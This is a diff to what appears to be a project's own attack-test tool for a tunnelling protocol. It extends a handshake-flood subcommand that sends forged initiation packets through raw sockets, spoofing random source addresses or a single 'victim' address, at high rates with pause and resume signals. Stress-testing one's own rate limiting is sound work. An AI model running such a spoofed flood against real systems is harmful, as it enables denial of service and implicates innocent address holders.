@@ -13,9 +13,12 @@ Subcommands (all send to ``--target host:port``, the anchor's shared UDP port):
             AssociationReq, HS_INIT-sized random data, and real Noise IK initiations
             from a key that is not a [[peer]] (valid mac1: it knows the anchor's key).
 ``hsflood`` for ``--seconds`` (or until SIGTERM): one such initiation (valid mac1, key not
-            a [[peer]]) sent again and again from random spoofed source addresses in
-            ``--spoof-net`` (raw socket): every packet passes the per-source limit as a new
-            source.
+            a [[peer]]) sent again and again from ``--distinct`` spoofed sources (raw
+            socket): random addresses in ``--spoof-net``, or ``--spoof ADDR[:PORT]`` (one
+            address, e.g. a victim's public NAT address: random ports unless given).
+            Pre-built packets, sent with sendmmsg (``fastsend``), paced to ``--pps`` (0: as
+            fast as the kernel takes them); SIGUSR1 pauses it, SIGUSR2 resumes. Reports the
+            rate achieved while active (``pps``, ``run_s``) and its CPU time.
 ``inbound`` (no tunnel protocol at all) plain traffic to a host's VIpA ``--dst``, routed
             via the anchor: UDP datagrams to ``--port`` from our socket, ICMP echo requests
             and TCP SYNs (raw sockets, from our own address) to the same port; answers of
@@ -199,36 +202,44 @@ def cmd_flood(a: argparse.Namespace) -> dict[str, Any]:
 def cmd_hsflood(a: argparse.Namespace) -> dict[str, Any]:
     import ipaddress
 
+    from tests.attack.fastsend import BatchSender
+    from tests.attack.rawsock import udp
     from upmt_tun import keys
     from upmt_tun.signalling.handshake import Initiation
 
-    net = ipaddress.IPv4Network(a.spoof_net)
-    base, size = int(net.network_address), net.num_addresses
     stranger = base64.b64decode(keys.generate())
     packet = Initiation(static=stranger, remote_static=base64.b64decode(a.anchor_pub),
                         local_index=1, wall_ns=time.time_ns()).packet
     dst = addr(a.target)
-    raw = RawSender()
-    pace = Pacer(a.pps)
     rnd = random.Random(a.seed)
-    sent = errors = 0
-    sources: set[int] = set()
-    t_end = time.monotonic() + a.seconds
+    if a.spoof:                              # one address (a victim's), its or random ports
+        host, _, port = a.spoof.partition(":")
+        sources = [(host, int(port) if port else rnd.randrange(1024, 65535))
+                   for _ in range(a.distinct)]
+    else:
+        net = ipaddress.IPv4Network(a.spoof_net)
+        base, size = int(net.network_address), net.num_addresses
+        sources = [(str(ipaddress.IPv4Address(base + rnd.randrange(1, size - 1))),
+                    rnd.randrange(1024, 65535)) for _ in range(a.distinct)]
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    sender = BatchSender(raw, [udp(h, dst[0], p, dst[1], packet, with_checksum=False)
+                               for h, p in sources], dst)
     stop: list[int] = []
+    pause = [a.paused]
     signal.signal(signal.SIGTERM, lambda signum, frame: stop.append(signum))
-    while time.monotonic() < t_end and not stop:
-        src = base + rnd.randrange(1, size - 1)
-        sources.add(src)
-        try:
-            raw.send_udp((str(ipaddress.IPv4Address(src)), rnd.randrange(1024, 65535)), dst,
-                         packet)
-            sent += 1
-        except OSError:
-            errors += 1
-        pace.tick()
+    signal.signal(signal.SIGUSR1, lambda signum, frame: pause.__setitem__(0, True))
+    signal.signal(signal.SIGUSR2, lambda signum, frame: pause.__setitem__(0, False))
+    print("ready", flush=True)               # (the signals are handled from here on)
+    t_cpu = time.process_time()
+    took = sender.run(a.seconds, a.pps, lambda: bool(stop), lambda: pause[0])
+    cpu = time.process_time() - t_cpu
     raw.close()
-    return {"sent": sent, "sent_bytes": sent * len(packet), "send_errors": errors,
-            "sources": len(sources)}
+    return {"sent": sender.sent, "sent_bytes": sender.sent * len(packet),
+            "send_errors": sender.errors, "sources": len(set(sources)),
+            "pps": round(sender.sent / took) if took > 0 else 0,
+            "cpu_s": round(cpu, 2), "run_s": round(took, 2)}
 
 
 def cmd_inbound(a: argparse.Namespace) -> dict[str, Any]:
@@ -304,6 +315,9 @@ def main(argv: list[str] | None = None) -> int:
     hf.add_argument("--seconds", type=float, default=5.0)
     hf.add_argument("--anchor-pub", required=True)
     hf.add_argument("--spoof-net", default="198.18.0.0/15")
+    hf.add_argument("--spoof", default=None, help="ADDR[:PORT]: one source address")
+    hf.add_argument("--distinct", type=int, default=4096, help="pre-built packets")
+    hf.add_argument("--paused", action="store_true", help="start paused (until SIGUSR2)")
     ib = sub.add_parser("inbound")
     ib.add_argument("--dst", required=True, help="the host's VIpA")
     ib.add_argument("--port", type=int, required=True)
